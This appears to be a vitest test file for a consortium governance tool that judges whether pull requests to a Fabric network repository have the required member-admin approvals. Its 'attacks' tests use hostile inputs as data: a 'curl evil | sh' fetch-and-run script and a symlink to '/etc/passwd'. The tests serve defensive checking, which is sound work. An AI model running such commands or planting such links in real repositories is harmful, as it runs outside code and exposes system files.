import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { openGitRepository } from '../../tools/src/adapters/git.ts';
import { runApprovals } from '../../tools/src/commands/approvals.ts';
import { generateOrgPki } from '../../tools/src/pki/generate-org-pki.ts';
import { issueTlsCertificate } from '../../tools/src/pki/issue-tls-certificate.ts';
import { createKeyedExample, type KeyedExample } from '../support/keyed-example.ts';
import {
  approve,
  createLedgerScenario,
  createScenario,
  exampleTree,
  growersFiles,
  grower1,
  longAgo,
  now,
  review,
  stranger,
  type LedgerScenario,
  type Person,
  type Scenario,
} from './support/scenario.ts';

const example = exampleTree();
const text = (path: string) => {
  const found = example[path];
  if (found === undefined) throw new Error(`${path} is not in the example`);
  return found;
};
/** The example file with one replacement; fails loudly when the example no longer contains `from`. */
const edit = (path: string, from: string | RegExp, to: string) => {
  const before = text(path);
  const after = before.replace(from, to);
  if (after === before) throw new Error(`${path}: "${String(from)}" not found`);
  return { [path]: after };
};

let s: Scenario;
afterEach(() => s.remove());
const start = () => {
  s = createScenario();
  return s;
};
// Pull requests that change a channel on the ledger carry its config update and the members'
// signatures, made with `channel update` and `channel sign` by the example's members, who hold
// their keys here (the committed example certificates have none).
let keyed: KeyedExample;
beforeAll(async () => {
  keyed = await createKeyedExample();
}, 60_000);
afterAll(() => keyed.remove());
const startLedger = (): LedgerScenario => {
  const ledger = createLedgerScenario(keyed);
  s = ledger;
  return ledger;
};
const admin = (org: string, index = 0): Person => {
  const person = s.admins[org]?.[index];
  if (person === undefined) throw new Error(`example org ${org} has no admin #${index}`);
  return person;
};
const kinds = (result: { changes: readonly { kind: string; subject: string }[] }) =>
  result.changes.map((c) => `${c.kind} ${c.subject}`);

describe('documentation and toolkit', () => {
  it('a docs change needs any one member admin', async () => {
    start();
    const head = s.push({ 'docs/operations.md': '# Operations\n\nRotate certificates yearly.\n' });
    const pending = await s.judge({ head });
    expect(kinds(pending)).toEqual(['docs.update docs']);
    expect(pending.verdict).toBe('pending');
    expect(pending.changes[0]?.missing).toEqual([
      'needs 1 more of: AcmeManufacturingMSP, HarborviewRetailMSP, StraitsFreightMSP',
    ]);
    expect((await s.judge({ head, reviews: approve([admin('logistics')], head) })).verdict).toBe('approved');
  });

  it("the author, an admin of a member, is that member's approval of a docs change", async () => {
    start();
    const head = s.push({ 'README.md': '# Consortium\n\nHow to join.\n' });
    expect((await s.judge({ head, author: admin('retailer') })).verdict).toBe('approved');
  });

  it('a toolkit change is critical: two admins per approving org and the minimum open time', async () => {
    start();
    const head = s.push({ 'tools/src/cli/main.ts': 'export const approveEverything = true;\n' });
    const reviews = approve(
      [admin('manufacturer', 0), admin('manufacturer', 1), admin('retailer', 0), admin('retailer', 1)],
      head,
    );
    const oneEach = await s.judge({
      head,
      reviews: approve([admin('manufacturer'), admin('retailer')], head),
      openedAt: longAgo,
    });
    expect(kinds(oneEach)).toEqual(['toolkit.update toolkit']);
    expect(oneEach.verdict).toBe('pending');
    expect(oneEach.changes[0]?.missing).toContain(
      'AcmeManufacturingMSP needs 1 more admin to count (critical change: 2 per org)',
    );
    expect((await s.judge({ head, reviews, openedAt: longAgo })).verdict).toBe('approved');
  });

  it('a critical change without a known opening time stays pending (fail closed)', async () => {
    start();
    const head = s.push({ 'package.json': '{ "name": "consortium", "private": true, "scripts": {} }\n' });
    const reviews = approve(
      [admin('manufacturer', 0), admin('manufacturer', 1), admin('retailer', 0), admin('retailer', 1)],
      head,
    );
    const result = await s.judge({ head, reviews });
    expect(result.verdict).toBe('pending');
    expect(result.changes[0]?.missing.join('\n')).toMatch(/opening time unknown/);
  });

  it('a critical change opened an hour ago waits for the minimum open time', async () => {
    start();
    const head = s.push({ '.github/workflows/governance.yml': 'name: governance\non: push\n' });
    const reviews = approve(
      [admin('manufacturer', 0), admin('manufacturer', 1), admin('retailer', 0), admin('retailer', 1)],
      head,
    );
    const opened = new Date(now.getTime() - 3_600_000).toISOString();
    const result = await s.judge({ head, reviews, openedAt: opened });
    expect(result.verdict).toBe('pending');
    expect(result.changes[0]?.missing.join('\n')).toMatch(/stay open until .*23h left/);
  });
});

describe('organizations', () => {
  it("an org's change to itself needs that org", async () => {
    start();
    const head = s.push(edit('orgs/retailer/org.yaml', 'storage: 100Gi', 'storage: 200Gi'));
    const byOthers = await s.judge({ head, reviews: approve([admin('manufacturer'), admin('logistics')], head) });
    expect(kinds(byOthers)).toEqual(['org.update retailer']);
    expect(byOthers.verdict).toBe('pending');
    expect(byOthers.changes[0]?.requires).toMatch(/^OR\('HarborviewRetailMSP\.admin'\)/);
    expect((await s.judge({ head, reviews: approve([admin('retailer', 1)], head) })).verdict).toBe('approved');
  });

  it('an org changing its own admins needs two of its base admins and the open time', async () => {
    start();
    const newcomer: Person = { login: 'new-retail-admin', id: 70_000_001 };
    const head = s.push(
      edit(
        'orgs/retailer/org.yaml',
        /admins:\n/,
        `admins:\n  - github: ${newcomer.login}\n    githubId: ${newcomer.id}\n`,
      ),
    );
    const result = await s.judge({
      head,
      author: admin('retailer', 0),
      reviews: approve([admin('retailer', 1)], head),
      openedAt: longAgo,
    });
    expect(kinds(result)).toEqual(['org.admins.update retailer']);
    expect(result.changes[0]?.critical).toBe(true);
    expect(result.verdict).toBe('approved');
  });

  it('a renamed MSP id is a removal plus an addition', async () => {
    start();
    const head = s.push(edit('orgs/retailer/org.yaml', 'mspId: HarborviewRetailMSP', 'mspId: HarborviewMSP'));
    const result = await s.judge({ head });
    expect(kinds(result)).toContain('org.remove retailer');
    expect(kinds(result)).toContain('org.add retailer');
  });

  it('moving an org folder (git rename) is a removal plus an addition', async () => {
    start();
    const moved: Record<string, string | null> = {};
    for (const [path, content] of Object.entries(example)) {
      if (!path.startsWith('orgs/logistics/')) continue;
      moved[path] = null;
      moved[path.replace('orgs/logistics/', 'orgs/freight/')] = path.endsWith('org.yaml')
        ? content.replace('id: logistics', 'id: freight')
        : content;
    }
    const head = s.push(moved);
    const result = await s.judge({ head });
    expect(kinds(result)).toEqual(expect.arrayContaining(['org.add freight', 'org.remove logistics']));
    expect(result.verdict).not.toBe('approved');
  });

  it('adding a new org to a channel needs the channel Admins over current members plus the org', async () => {
    const l = startLedger();
    const yamlOnly = l.push({
      ...(await growersFiles()),
      ...edit(
        'channels/recalls/channel.yaml',
        'members:\n  - manufacturer\n  - retailer\n',
        'members:\n  - manufacturer\n  - retailer\n  - growers\n',
      ),
    });
    // recalls runs on the ledger: the YAML alone would never reach it.
    const noUpdate = await l.judge({
      head: yamlOnly,
      author: grower1,
      reviews: approve([admin('manufacturer'), admin('retailer')], yamlOnly),
    });
    expect(noUpdate.verdict).toBe('error');
    expect(noUpdate.errors.join('\n')).toContain('run `consortium channel update recalls`');

    await l.writeUpdates(['recalls']);
    const head = await l.sign('recalls', ['manufacturer']);
    const partial = await l.judge({
      head,
      author: grower1,
      reviews: approve([admin('manufacturer'), admin('logistics')], head),
    });
    expect(kinds(partial)).toEqual(['org.add growers', 'channel.member.add recalls/growers']);
    expect(partial.changes[0]?.satisfied).toBe(true);
    // MAJORITY of the channel's 2 current members is 2: the retailer's admin must sign too.
    expect(partial.verdict).toBe('pending');
    expect(partial.changes[1]?.missing).toContain(
      'an admin of HarborviewRetailMSP runs `consortium channel sign recalls --org retailer --update 0001`',
    );
    const signed = await l.sign('recalls', ['retailer']);
    const all = await l.judge({
      head: signed,
      author: grower1,
      reviews: approve([admin('manufacturer'), admin('logistics')], signed),
    });
    expect(all.changes[1]?.approvedBy.map((a) => a.org)).toEqual(['manufacturer', 'retailer']);
    expect(all.verdict).toBe('approved');
  });
});

describe('channels and chaincodes', () => {
  it('a chaincode upgrade (sequence + 1) needs the channel LifecycleEndorsement', async () => {
    start();
    const path = 'channels/traceability/chaincodes/provenance.yaml';
    const head = s.push({
      [path]: text(path)
        .replace('version: 1.0.0', 'version: 1.1.0')
        .replace('sequence: 1', 'sequence: 2')
        .replace(/:1\.0\.0/, ':1.1.0'),
    });
    const one = await s.judge({ head, reviews: approve([admin('logistics')], head) });
    expect(kinds(one)).toEqual(['chaincode.upgrade traceability/provenance']);
    expect(one.changes[0]?.requires).toMatch(
      /^MAJORITY Endorsement \(channel traceability LifecycleEndorsement policy/,
    );
    expect(one.verdict).toBe('pending');
    expect((await s.judge({ head, reviews: approve([admin('logistics'), admin('retailer')], head) })).verdict).toBe(
      'approved',
    );
  });

  it("the committed version's server kept beside an upgrade, then removed once the upgrade is committed", async () => {
    const path = 'channels/traceability/chaincodes/provenance.yaml';
    const previous = `previous:\n  version: 1.0.0\n  image: ${/image: (\S+)/.exec(text(path))?.[1] ?? ''}\n`;
    const upgraded = text(path)
      .replace('version: 1.0.0', 'version: 1.1.0')
      .replace('sequence: 1', 'sequence: 2')
      .replace(/:1\.0\.0/, ':1.1.0')
      .replace('initRequired: false\n', `initRequired: false\n${previous}`);
    start();
    const upgrade = s.push({ [path]: upgraded });
    const during = await s.judge({ head: upgrade, reviews: approve([admin('logistics')], upgrade) });
    expect(kinds(during)).toEqual(['chaincode.upgrade traceability/provenance']);

    // Removing previous is no new definition (the sequence stays), but an edit the channel governs.
    s = createScenario({ [path]: upgraded });
    const removal = s.push({ [path]: upgraded.replace(previous, '') });
    const after = await s.judge({ head: removal, reviews: approve([admin('logistics')], removal) });
    expect(after.changes.map((c) => c.kind)).toEqual(['channel.policy.update']);
    expect(after.verdict).not.toBe('error');

    // New indexes with previous: the committed version's package (rebuilt from them) would change its ID.
    start();
    const index = 'chaincode/provenance/META-INF/statedb/couchdb/indexes/indexHolder.json';
    const withIndex = s.push({ [path]: upgraded, [index]: text(index).replace('"holder"', '"holder", "location"') });
    const all = Object.values(s.admins).flat();
    const refused = await s.judge({ head: withIndex, reviews: approve(all, withIndex) });
    expect(refused.verdict).toBe('error');
    expect(
      refused.changes.find((c) => c.kind === 'error' && c.subject === 'traceability/provenance')?.summary,
    ).toContain('changes its META-INF indexes in the same pull request');
  });

  it('a chaincode change that skips a sequence number is an error', async () => {
    start();
    const path = 'channels/traceability/chaincodes/provenance.yaml';
    const head = s.push({
      [path]: text(path).replace('version: 1.0.0', 'version: 1.1.0').replace('sequence: 1', 'sequence: 3'),
    });
    const all = Object.values(s.admins).flat();
    const result = await s.judge({ head, reviews: approve(all, head) });
    expect(result.verdict).toBe('error');
    expect(result.changes[0]?.summary).toMatch(/must have sequence 2/);
  });

  it("a new chaincode definition on a channel needs that channel's members", async () => {
    start();
    const path = 'channels/recalls/chaincodes/recall-audit.yaml';
    const head = s.push({
      [path]: text('channels/recalls/chaincodes/recall-notices.yaml').replace(/recall-notices/g, 'recall-audit'),
    });
    const result = await s.judge({ head, reviews: approve([admin('logistics'), admin('manufacturer')], head) });
    expect(kinds(result)).toEqual(['chaincode.define recalls/recall-audit']);
    expect(result.changes[0]?.missing).toEqual([
      'needs 1 more of: HarborviewRetailMSP',
      'needs the consent of HarborviewRetailMSP (an admin listed for retailer)',
    ]);
  });

  it('a new channel needs every listed member', async () => {
    start();
    const channel = text('channels/recalls/channel.yaml').replace('name: recalls', 'name: pricing');
    const head = s.push({ 'channels/pricing/channel.yaml': channel });
    const one = await s.judge({ head, reviews: approve([admin('manufacturer')], head) });
    expect(kinds(one)).toEqual(['channel.create pricing']);
    expect(one.changes[0]?.missing).toEqual(['needs 1 more of: HarborviewRetailMSP']);
    expect((await s.judge({ head, reviews: approve([admin('manufacturer'), admin('retailer')], head) })).verdict).toBe(
      'approved',
    );
  });

  it('a channel policy change needs the channel Admins policy', async () => {
    const l = startLedger();
    l.push(
      edit(
        'channels/traceability/channel.yaml',
        'Endorsement: MAJORITY Endorsement\n  LifecycleEndorsement',
        'Endorsement: ANY Endorsement\n  LifecycleEndorsement',
      ),
    );
    const unsigned = await l.writeUpdates(['traceability']);
    const waiting = await l.judge({
      head: unsigned,
      reviews: approve([admin('manufacturer'), admin('logistics')], unsigned),
    });
    expect(kinds(waiting)).toEqual(['channel.policy.update traceability']);
    // Reviews are not Fabric signatures: the update is what reaches the ledger.
    expect(waiting.verdict).toBe('pending');
    expect(waiting.changes[0]?.missing.join('\n')).toContain(
      'update 0001: /Channel/Application/Admins (MAJORITY Admins) needs 2 of:',
    );
    const head = await l.sign('traceability', ['manufacturer', 'logistics']);
    const result = await l.judge({ head, reviews: approve([admin('manufacturer'), admin('logistics')], head) });
    expect(result.verdict).toBe('approved');
  });

  it('deleting a channel is an error: Fabric channels cannot be deleted', async () => {
    start();
    const head = s.push({
      'channels/recalls/channel.yaml': null,
      'channels/recalls/chaincodes/recall-notices.yaml': null,
    });
    const result = await s.judge({ head, reviews: approve(Object.values(s.admins).flat(), head) });
    expect(result.verdict).toBe('error');
    expect(kinds(result)).toEqual(['error recalls']);
  });

  it('an ordering change needs a majority of consenter orgs, two admins each', async () => {
    const l = startLedger();
    l.push(edit('consortium/consortium.yaml', 'timeout: 2s', 'timeout: 1s'));
    // The batch timeout is in every channel's config: one update per channel.
    const unsigned = await l.writeUpdates(['recalls', 'traceability']);
    const reviewsOf = (head: string) =>
      approve([admin('logistics', 0), admin('logistics', 1), admin('retailer', 0), admin('retailer', 1)], head);
    const reviewedOnly = await l.judge({ head: unsigned, reviews: reviewsOf(unsigned), openedAt: longAgo });
    // Each channel's update is decided by the Fabric signatures on it, the ordering change by reviews.
    expect(kinds(reviewedOnly)).toEqual([
      'ordering.update consortium/ordering',
      'channel.policy.update recalls',
      'channel.policy.update traceability',
    ]);
    expect(reviewedOnly.changes[0]?.satisfied).toBe(true);
    expect(reviewedOnly.verdict).toBe('pending');
    expect(reviewedOnly.changes[1]?.missing).toContain(
      'update 0001: /Channel/Orderer/Admins (MAJORITY Admins) needs 2 of: AcmeManufacturingMSP, HarborviewRetailMSP, StraitsFreightMSP admins',
    );
    await l.sign('recalls', ['logistics', 'retailer']);
    const head = await l.sign('traceability', ['logistics', 'retailer']);
    const result = await l.judge({ head, reviews: reviewsOf(head), openedAt: longAgo });
    expect(result.verdict).toBe('approved');
  });

  it('a Fabric release change is a critical toolkit change', async () => {
    start();
    const head = s.push(edit('consortium/consortium.yaml', /2\.5\.12/g, '2.5.13'));
    const reviews = approve([admin('manufacturer'), admin('retailer'), admin('logistics')], head);
    const result = await s.judge({ head, reviews, openedAt: longAgo });
    expect(kinds(result)).toEqual(['toolkit.update consortium/fabric']);
    expect(result.changes[0]?.critical).toBe(true);
    expect(result.verdict).toBe('pending');
  });

  it('removing a consenter is an ordering change decided by the consenter orgs at base', async () => {
    start();
    const head = s.push(edit('consortium/consortium.yaml', '    - org: retailer\n      orderer: orderer0\n', ''));
    const result = await s.judge({
      head,
      reviews: approve([admin('retailer', 0), admin('retailer', 1)], head),
      openedAt: longAgo,
    });
    expect(kinds(result)).toEqual(['ordering.update consortium/ordering']);
    expect(result.changes[0]?.missing).toEqual(['needs 1 more of: AcmeManufacturingMSP, StraitsFreightMSP']);
  });

  it("replacing a consenter's TLS certificate is an ordering change as well as the org's own", async () => {
    const l = startLedger();
    // A consenter is identified by its TLS certificate in every channel's configuration. The
    // example's TLS CA key is discarded, so the member renews its TLS CA along with the certificate.
    const pki = await generateOrgPki({
      orgId: 'logistics',
      mspId: 'StraitsFreightMSP',
      domain: 'straits-freight.example',
      validity: { days: 365 },
      now,
    });
    const tls = await issueTlsCertificate({
      issuer: { certificate: pki.certificates.tlsCa, key: pki.keys.tlsCa },
      host: 'orderer0.fabric.straits-freight.example',
      // Every name a client dials: the other consenters, and the org's own Jobs in its cluster.
      alternativeNames: [
        'orderer0-logistics',
        'orderer0-logistics.fabric-straits-freight',
        'orderer0-logistics.fabric-straits-freight.svc',
        'orderer0-logistics.fabric-straits-freight.svc.cluster.local',
      ],
      organization: 'Straits Freight',
      validity: { days: 365 },
      now,
    });
    l.push({
      'orgs/logistics/msp/tlsca.pem': pki.certificates.tlsCa,
      'orgs/logistics/msp/orderer0-tls.pem': tls.certificate,
    });
    // The consenter (and the org's TLS CA) change in every channel's config.
    await l.writeUpdates(['recalls', 'traceability']);
    await l.sign('recalls', ['logistics']);
    const head = await l.sign('traceability', ['logistics']);
    const byLogistics = await s.judge({
      head,
      reviews: approve([admin('logistics', 0), admin('logistics', 1)], head),
      openedAt: longAgo,
    });
    expect(kinds(byLogistics)).toEqual([
      'ordering.update ordering/logistics/orderer0',
      'org.update logistics',
      'channel.policy.update recalls',
      'channel.policy.update traceability',
    ]);
    expect(byLogistics.changes[0]?.critical).toBe(true);
    expect(byLogistics.changes[0]?.missing).toEqual(['needs 1 more of: AcmeManufacturingMSP, HarborviewRetailMSP']);
    expect(byLogistics.verdict).toBe('pending');
    await l.sign('recalls', ['retailer']);
    const signed = await l.sign('traceability', ['retailer']);
    const reviews = approve(
      [admin('logistics', 0), admin('logistics', 1), admin('retailer', 0), admin('retailer', 1)],
      signed,
    );
    expect((await s.judge({ head: signed, reviews, openedAt: longAgo })).verdict).toBe('approved');
  });

  it("an edit that changes no meaning (a comment) is still governed by the file's owner", async () => {
    start();
    const head = s.push(edit('channels/recalls/channel.yaml', /^/, '# reviewed yearly\n'));
    const result = await s.judge({ head });
    expect(kinds(result)).toEqual(['channel.policy.update recalls']);
    expect(result.changes[0]?.summary).toMatch(/without a semantic change/);
  });
});

describe('evidence: who approves, on what', () => {
  it('approvals from non-admins do not count and are listed as such', async () => {
    start();
    const head = s.push({ 'docs/operations.md': '# Ops\n' });
    const result = await s.judge({
      head,
      reviews: approve([stranger], head),
      author: { login: 'someone-else', id: 1 },
    });
    expect(result.verdict).toBe('pending');
    expect(result.ignoredReviews).toEqual([
      { login: 'mallory', reason: 'not an admin of any member org at base (by GitHub user id)' },
      {
        login: 'someone-else',
        reason:
          'the pull request author is not an admin of any member org at base (by GitHub user id): authoring counts as no approval',
      },
    ]);
  });

  it("a reviewer with an admin's login but another numeric id does not count", async () => {
    start();
    const head = s.push({ 'docs/operations.md': '# Ops\n' });
    const impostor = { login: admin('retailer').login, id: 99_999_999 };
    expect((await s.judge({ head, reviews: approve([impostor], head) })).verdict).toBe('pending');
  });

  it('approvals in comments, review bodies and comment reviews never count', async () => {
    start();
    const head = s.push({ 'docs/operations.md': '# Ops\n' });
    const reviews = [
      review(admin('retailer'), 'COMMENTED', head, { body: 'APPROVED' }),
      review(admin('logistics'), 'COMMENTED', head, { body: 'LGTM, approve' }),
      review(admin('manufacturer'), 'PENDING', head),
    ];
    expect((await s.judge({ head, reviews })).verdict).toBe('pending');
  });

  it('a later comment does not withdraw an approval', async () => {
    start();
    const head = s.push({ 'docs/operations.md': '# Ops\n' });
    const reviews = [review(admin('retailer'), 'APPROVED', head), review(admin('retailer'), 'COMMENTED', head)];
    expect((await s.judge({ head, reviews })).verdict).toBe('approved');
  });

  it('a dismissal revokes an approval', async () => {
    start();
    const head = s.push({ 'docs/operations.md': '# Ops\n' });
    const reviews = [review(admin('retailer'), 'APPROVED', head), review(admin('retailer'), 'DISMISSED', head)];
    expect((await s.judge({ head, reviews })).verdict).toBe('pending');
  });

  it('a review by a deleted account (user null) is ignored', async () => {
    start();
    const head = s.push({ 'docs/operations.md': '# Ops\n' });
    const ghost = { ...review(admin('retailer'), 'APPROVED', head), user: null };
    expect((await s.judge({ head, reviews: [ghost] })).verdict).toBe('pending');
  });

  it('commit authors other than the pull-request author do not approve', async () => {
    start();
    const retail = admin('retailer');
    const head = s.repo.commit({
      branch: 'pr',
      from: 'main',
      files: { 'docs/operations.md': '# Ops\n' },
      author: { name: retail.login, email: `${retail.id}+${retail.login}@users.noreply.github.com` },
    });
    expect((await s.judge({ head, author: stranger })).verdict).toBe('pending');
  });

  it('an approval on a commit git does not have (force-pushed away) does not count', async () => {
    start();
    const head = s.push({ 'docs/operations.md': '# Ops\n' });
    const result = await s.judge({ head, reviews: approve([admin('retailer')], 'f'.repeat(40)) });
    expect(result.verdict).toBe('pending');
    expect(result.ignoredReviews[0]?.reason).toMatch(/whose changes differ/);
  });
});

describe('stale approvals and rebases', () => {
  it('approvals on an earlier head do not count after a content change', async () => {
    start();
    const first = s.push({ 'docs/operations.md': '# Ops\n' });
    const second = s.push({ 'docs/operations.md': '# Ops, edited after approval\n' });
    const result = await s.judge({ head: second, reviews: approve([admin('retailer')], first) });
    expect(result.verdict).toBe('pending');
  });

  it('approvals survive a rebase onto a newer base with the same change set', async () => {
    start();
    const files = await growersFiles();
    const first = s.push(files);
    s.pushBase({ 'docs/faq.md': '# FAQ\n' });
    const rebased = s.push(files, { branch: 'pr-rebased', from: 'main' });
    const reviews = approve([admin('manufacturer'), admin('retailer'), grower1], first);
    const result = await s.judge({ head: rebased, reviews });
    expect(kinds(result)).toEqual(['org.add growers']);
    expect(result.verdict).toBe('approved');
  });

  it('approvals survive a later commit that only reformats the same content', async () => {
    start();
    const files = await growersFiles();
    const first = s.push(files);
    const orgYaml = files['orgs/growers/org.yaml'];
    if (typeof orgYaml !== 'string') throw new Error('growers org.yaml is not text');
    const second = s.push({ 'orgs/growers/org.yaml': `# Joining member\n${orgYaml}` });
    const result = await s.judge({
      head: second,
      reviews: approve([admin('manufacturer'), admin('retailer'), grower1], first),
    });
    expect(result.verdict).toBe('approved');
  });
});

describe('vetoes', () => {
  it('changes requested by an admin of a deciding org reject the change', async () => {
    start();
    const head = s.push(await growersFiles());
    const reviews = [
      ...approve([admin('manufacturer'), admin('retailer'), grower1], head),
      review(admin('logistics'), 'CHANGES_REQUESTED', head),
    ];
    const result = await s.judge({ head, reviews });
    expect(result.verdict).toBe('rejected');
    expect(result.changes[0]?.vetoedBy).toEqual([
      { org: 'logistics', mspId: 'StraitsFreightMSP', admins: [admin('logistics').login] },
    ]);
  });

  it('a veto ends when that admin approves', async () => {
    start();
    const head = s.push(await growersFiles());
    const reviews = [
      ...approve([admin('manufacturer'), grower1], head),
      review(admin('logistics'), 'CHANGES_REQUESTED', head),
      review(admin('logistics'), 'APPROVED', head),
    ];
    expect((await s.judge({ head, reviews })).verdict).toBe('approved');
  });

  it('changes requested by an org that does not decide the change are not a veto', async () => {
    start();
    const head = s.push(edit('orgs/retailer/org.yaml', 'storage: 100Gi', 'storage: 200Gi'));
    const reviews = [
      review(admin('retailer'), 'APPROVED', head),
      review(admin('manufacturer'), 'CHANGES_REQUESTED', head),
    ];
    expect((await s.judge({ head, reviews })).verdict).toBe('approved');
  });
});

describe('attacks', () => {
  it('a pull request that adds its author as an admin of another org is never approved', async () => {
    start();
    const attacker = admin('manufacturer');
    const head = s.push(
      edit(
        'orgs/retailer/org.yaml',
        /admins:\n/,
        `admins:\n  - github: ${attacker.login}\n    githubId: ${attacker.id}\n`,
      ),
    );
    const reviews = approve([admin('manufacturer', 1), admin('logistics'), admin('logistics', 1)], head);
    const result = await s.judge({ head, author: attacker, reviews, openedAt: longAgo });
    expect(kinds(result)).toEqual(['org.admins.update retailer']);
    // One person listed for two orgs does not validate (unique-admin), and never counts for both.
    expect(result.verdict).toBe('error');
    expect(result.changes[0]?.missing.join('\n')).toMatch(/HarborviewRetailMSP/);
  });

  it("an author cannot approve their own org's removal of another org alone", async () => {
    start();
    const author = admin('manufacturer');
    const removal = Object.fromEntries(
      Object.keys(example)
        .filter((p) => p.startsWith('orgs/logistics/'))
        .map((p) => [p, null]),
    );
    const head = s.push(removal);
    const result = await s.judge({ head, author, openedAt: longAgo });
    expect(kinds(result)).toContain('org.remove logistics');
    expect(result.verdict).not.toBe('approved');
    const remove = result.changes.find((c) => c.kind === 'org.remove');
    expect(remove?.missing).toContain('AcmeManufacturingMSP needs 1 more admin to count (critical change: 2 per org)');
  });

  it('the org being removed cannot veto its removal, but a majority is still needed', async () => {
    start();
    const removal = Object.fromEntries(
      Object.keys(example)
        .filter((p) => p.startsWith('orgs/logistics/'))
        .map((p) => [p, null]),
    );
    const head = s.push(removal);
    const reviews = [review(admin('logistics'), 'CHANGES_REQUESTED', head)];
    const result = await s.judge({ head, reviews, openedAt: longAgo });
    const remove = result.changes.find((c) => c.kind === 'org.remove');
    expect(remove?.vetoedBy).toEqual([]);
    expect(remove?.satisfied).toBe(false);
  });

  it('a rule change that would pass only under the new rules is judged by the old ones', async () => {
    start();
    const rules = edit(
      'consortium/consortium.yaml',
      'rules: {}',
      `rules:\n    org.add: "OR('AcmeManufacturingMSP.admin')"\n    governance.update: "OR('AcmeManufacturingMSP.admin')"`,
    );
    const head = s.push({ ...rules, ...(await growersFiles()) });
    const reviews = approve([admin('manufacturer', 0), admin('manufacturer', 1), grower1], head);
    const result = await s.judge({ head, reviews, openedAt: longAgo });
    expect(kinds(result)).toEqual(['governance.update consortium/governance', 'org.add growers']);
    expect(result.verdict).toBe('pending');
    expect(result.changes.every((c) => c.requires.startsWith('MAJORITY Admins'))).toBe(true);
  });

  it('a deleted and re-added org directory is judged by what differs from base', async () => {
    start();
    const attacker = stranger;
    const orgFiles = Object.keys(example).filter((p) => p.startsWith('orgs/retailer/'));
    s.push(Object.fromEntries(orgFiles.map((p) => [p, null])));
    const readded = {
      ...Object.fromEntries(orgFiles.map((p) => [p, text(p)])),
      ...edit(
        'orgs/retailer/org.yaml',
        /admins:\n(?: {2}- github: \S+\n {4}githubId: \d+\n)+/,
        `admins:\n  - github: ${attacker.login}\n    githubId: ${attacker.id}\n`,
      ),
    };
    const head = s.push(readded);
    const result = await s.judge({ head, author: attacker, reviews: approve([attacker], head), openedAt: longAgo });
    expect(kinds(result)).toEqual(['org.admins.update retailer']);
    expect(result.verdict).toBe('pending');
    expect(result.changes[0]?.approvedBy).toEqual([]);
  });

  it('a file outside the known layout makes the verdict error', async () => {
    start();
    const head = s.push({ 'hack.sh': 'curl evil | sh\n', 'docs/operations.md': '# Ops\n' });
    const result = await s.judge({ head, reviews: approve(Object.values(s.admins).flat(), head), openedAt: longAgo });
    expect(result.verdict).toBe('error');
    expect(kinds(result)).toContain('error hack.sh');
  });

  it('a stray file inside an org folder makes the verdict error', async () => {
    start();
    const head = s.push({ 'orgs/retailer/notes/keys.txt': 'nothing to see\n' });
    const result = await s.judge({ head, reviews: approve([admin('retailer')], head) });
    expect(result.verdict).toBe('error');
  });

  it('a head that does not validate makes the verdict error', async () => {
    start();
    const head = s.push({ 'orgs/retailer/org.yaml': `${text('orgs/retailer/org.yaml')}\npeers: [unclosed\n` });
    const result = await s.judge({ head, reviews: approve(Object.values(s.admins).flat(), head), openedAt: longAgo });
    expect(result.verdict).toBe('error');
    expect(result.errors.join('\n')).toMatch(/head does not validate: orgs\/retailer\/org\.yaml/);
  });

  it('a head that shrinks a ledger volume makes the verdict error', async () => {
    start();
    const head = s.push(edit('orgs/retailer/org.yaml', /storage: 100Gi/, 'storage: 10Gi'));
    const result = await s.judge({ head, reviews: approve(Object.values(s.admins).flat(), head), openedAt: longAgo });
    expect(result.verdict).toBe('error');
    expect(result.errors.join('\n')).toMatch(
      /head does not validate: orgs\/retailer\/org\.yaml:\d+: storage of peer peer0/,
    );
  });

  it('a symbolic link into another org makes the verdict error', async () => {
    start();
    const head = s.push({ 'orgs/retailer/msp/extra.pem': { symlink: '../../../../etc/passwd' } });
    const result = await s.judge({ head, reviews: approve(Object.values(s.admins).flat(), head), openedAt: longAgo });
    expect(result.verdict).toBe('error');
  });

  it("a joining org's admins speak only for that org", async () => {
    start();
    // The new org lists an existing member's admin: that listing gives them no say beyond the new org.
    const head = s.push(await growersFiles({ admins: [grower1, admin('logistics')] }));
    const result = await s.judge({ head, reviews: approve([grower1], head), author: stranger });
    expect(result.verdict).toBe('error'); // the head does not validate (unique-admin)
    expect(result.changes[0]?.approvedBy.map((a) => a.mspId)).toEqual(['GreenfieldGrowersMSP']);
  });
});

describe('attacks on identity and evidence', () => {
  it('an author known only by login is not given an id the pull request itself assigns', async () => {
    start();
    // mallory joins as an admin of a new org, listing a manufacturer admin's numeric id as hers
    const head = s.push(
      await growersFiles({ admins: [{ login: stranger.login, id: admin('manufacturer').id }, grower1] }),
    );
    const result = await runApprovals({
      git: openGitRepository(s.repo.dir),
      base: 'main',
      head,
      reviews: approve([admin('retailer'), grower1], head),
      author: { login: stranger.login },
      openedAt: undefined,
      now,
    });
    expect(result.verdict).not.toBe('approved');
    expect(result.changes[0]?.approvedBy.map((a) => a.mspId)).not.toContain('AcmeManufacturingMSP');
  });
});

describe('attacks on chaincode installation', () => {
  const path = 'channels/traceability/chaincodes/provenance.yaml';

  it('a new chaincode definition does not run on a member that did not consent', async () => {
    start();
    const head = s.push({
      // Same image and CouchDB indexes under another name.
      'channels/traceability/chaincodes/audit-trail.yaml': text(path)
        .replace(/provenance/g, 'audit-trail')
        .replace(/chaincode\/audit-trail\/META-INF/g, 'chaincode/provenance/META-INF'),
    });
    const majority = await s.judge({ head, reviews: approve([admin('manufacturer'), admin('retailer')], head) });
    expect(kinds(majority)).toEqual(['chaincode.define traceability/audit-trail']);
    expect(majority.verdict).toBe('pending');
    expect(majority.changes[0]?.missing).toEqual([
      'needs the consent of StraitsFreightMSP (an admin listed for logistics)',
    ]);
    const all = approve([admin('manufacturer'), admin('retailer'), admin('logistics')], head);
    expect((await s.judge({ head, reviews: all })).verdict).toBe('approved');
  });

  it('an upgrade that installs the chaincode on another member needs that member', async () => {
    s = createScenario({ [path]: text(path).replace('  - logistics\n', '') });
    const head = s.push({
      [path]: text(path)
        .replace('version: 1.0.0', 'version: 1.1.0')
        .replace('sequence: 1', 'sequence: 2')
        .replace(/:1\.0\.0/, ':1.1.0'),
    });
    const majority = await s.judge({ head, reviews: approve([admin('manufacturer'), admin('retailer')], head) });
    expect(kinds(majority)).toEqual(['chaincode.upgrade traceability/provenance']);
    expect(majority.verdict).toBe('pending');
    expect(majority.changes[0]?.missing.join('\n')).toMatch(/consent of StraitsFreightMSP/);
    const all = approve([admin('manufacturer'), admin('retailer'), admin('logistics')], head);
    expect((await s.judge({ head, reviews: all })).verdict).toBe('approved');
